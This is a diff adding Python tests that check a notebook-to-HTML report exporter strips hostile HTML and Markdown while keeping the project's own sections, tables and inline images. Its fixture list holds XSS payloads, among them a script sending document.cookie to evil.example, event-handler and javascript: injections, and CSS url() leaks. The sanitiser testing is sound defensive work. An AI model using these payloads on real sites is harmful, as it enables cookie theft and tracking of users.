@@ -161,3 +161,64 @@ def test_lab_does_not_write_through_a_committed_workbook_link(git_repo, tmp_path
     assert victim.read_text() == "precious\n"
     notebook = prepare(Parameters(".", live=True))  # the default place is the user's, and is written
     assert notebook.exists() and victim.read_text() == "precious\n"
+
+
+HOSTILE_HTML = [
+    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+    '<img src="x" onerror="alert(1)"><img src="https://evil.example/pixel.png">',
+    '<a href="javascript:alert(2)">click</a><a href="https://evil.example/">away</a>',
+    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>',
+    '<embed src="x.swf"><form action="https://evil.example/"><input name="q"></form>',
+    '<td style="background-image: url(https://evil.example/leak)">cell</td>',
+    '<div style="background: url(https://evil.example/x)">styled</div><svg onload="alert(3)"></svg>',
+    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:url(//evil.example)}</style>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
+]
+
+
+def test_raw_outputs_are_sanitised_on_the_way_to_the_report(tmp_path):
+    """Case 4: HTML and Markdown outputs carrying scripts, handlers, frames, objects and style-based requests reach
+    the report stripped, while what the workbook's own fragments use (sections, ids, classes, data-item, tables,
+    inline images) stays."""
+    from bs4 import BeautifulSoup
+
+    from archreview.report.notebook import export
+
+    pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg=="
+    own = (f'<section id="checklist" class="ar-section"><h2>Checklist</h2><div class="ar-item" data-item="14">'
+           f'<table class="ar-table"><tr><th scope="col">a</th><td style="background-color: #fde0dd">1</td></tr>'
+           f'</table><a href="#item-14">item 14</a><figure><img alt="chart" src="{pixel}"></figure></div></section>')
+    node = nbformat_notebook([{"text/html": own}] + [{"text/html": h} for h in HOSTILE_HTML]
+                             + [{"text/markdown": "**bold** " + h} for h in HOSTILE_HTML])
+    source = tmp_path / "executed.ipynb"
+    import nbformat
+
+    nbformat.write(node, source)
+    html = export(source, tmp_path / "report.html").read_text()
+    soup = BeautifulSoup(html, "html.parser")
+    body = soup.find("main")
+    assert body.find_all(["script", "iframe", "object", "embed", "form", "input", "svg", "link", "meta", "base"]) == []
+    assert body.find_all("style") == []
+    for tag in body.find_all(True):
+        for name, value in tag.attrs.items():
+            assert not name.startswith("on"), tag
+            text = " ".join(value) if isinstance(value, list) else value
+            assert "evil.example" not in text and "javascript:" not in text and "url(" not in text, tag
+    assert "evil.example" not in str(body)
+    section = body.find("section", id="checklist")
+    assert section is not None and "ar-section" in section["class"]
+    assert body.find(attrs={"data-item": "14"}) is not None and body.find("th", scope="col") is not None
+    assert body.find("td", style="background-color:#fde0dd") is not None  # the heatmap colours stay
+    assert body.find("img", alt="chart")["src"] == pixel and body.find("a", string="item 14")["href"] == "#item-14"
+    assert body.find("strong", string="bold") is not None  # Markdown still rendered
+
+
+def nbformat_notebook(outputs: list[dict[str, str]]):
+    import nbformat
+
+    node = nbformat.v4.new_notebook()
+    for data in outputs:
+        cell = nbformat.v4.new_code_cell("display(...)")
+        cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
+        node.cells.append(cell)
+    return node
